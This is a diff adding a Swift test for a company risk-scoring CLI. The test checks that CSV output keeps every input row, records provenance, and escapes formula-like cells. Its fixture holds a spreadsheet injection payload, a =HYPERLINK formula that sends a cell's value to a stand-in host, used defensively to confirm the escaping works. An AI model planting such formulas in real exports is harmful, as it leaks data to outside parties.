@@ -99,6 +99,34 @@ struct ScoringCommandTests {
         #expect(result.stdout.contains("chain: 陈某 —实际控制→ 杭州鑫盛财富管理有限公司；陈某 —实际控制→ 上海盛通贸易有限公司"))
     }
 
+    /// The CSV lost every unmatched list row (and so its referral number), the linked
+    /// warnings and the run's provenance; a list cell such as `=HYPERLINK(…)` went out as a
+    /// live formula. Now: scored rows, then unmatched, then linked, each with `status`, and
+    /// the model and data on every row; formula-like cells start with an apostrophe.
+    @Test func scoreCSVKeepsEveryListRowAndTheProvenance() throws {
+        let (directory, db) = try setUp()
+        defer { directory.remove() }
+        try directory.write("list2.csv", """
+            referral_no,credit_code,name,note
+            R1,\(Self.source),,"=HYPERLINK(""http://x.example/?""&B2,""详情"")"
+            R2,,不存在的公司,
+            R3,\(Self.source),,再次举报
+            """)
+        let result = try runRiskBrain(["score", "list2.csv", "--db", db, "--model", Self.modelPath, "--as-of", "2025-01-01", "--format", "csv"],
+                                      in: directory.path)
+        #expect(result.status == 0, "\(result.stderr)")
+        let rows = result.stdout.split(separator: "\n", omittingEmptySubsequences: false).map(String.init).dropLast()
+        #expect(result.stdout.hasSuffix("\n") && rows.count == 5, "\(result.stdout)")
+        #expect(rows[0] == "rank,credit_code,name,region_code,score,level,illegal_finance,business,compliance,network,disposition,reasons,"
+                + "input_referral_no,input_credit_code,input_name,input_note,status,line,detail,model_id,model_version,model_sha256,as_of,data_fingerprint")
+        #expect(rows[1].hasPrefix("1,\(Self.source),杭州鑫盛财富管理有限公司,330106,90,high,"))
+        #expect(rows[1].contains(",R1,\(Self.source),,\"'=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"详情\"\")\",scored,,,illegal-fundraising,"), "\(rows[1])")
+        #expect(rows[2].hasPrefix(",,不存在的公司,,,,,,,,,,R2,,不存在的公司,,not_found,3,,illegal-fundraising,"), "\(rows[2])")
+        #expect(rows[3].hasPrefix(",\(Self.source),,,,,,,,,,,R3,\(Self.source),,再次举报,duplicate,4,\"duplicate of line 2, scored there\",illegal-fundraising,"), "\(rows[3])")
+        #expect(rows[4].hasPrefix(",\(Self.affiliate),上海盛通贸易有限公司,310115,77,high,,,,,,,,,,,linked,,via \(Self.source) (异地): 陈某 —实际控制→ 杭州鑫盛财富管理有限公司"), "\(rows[4])")
+        #expect(rows.dropFirst().allSatisfy { $0.contains(",2025-01-01,") }, "\(result.stdout)")
+    }
+
     /// `--limit -2` is the option's value, refused by its own check (exit 64), not read as
     /// a flag ("Missing value"); `bench report --runs` likewise.
     @Test func negativeNumbersAreRefusedByTheirOption() throws {
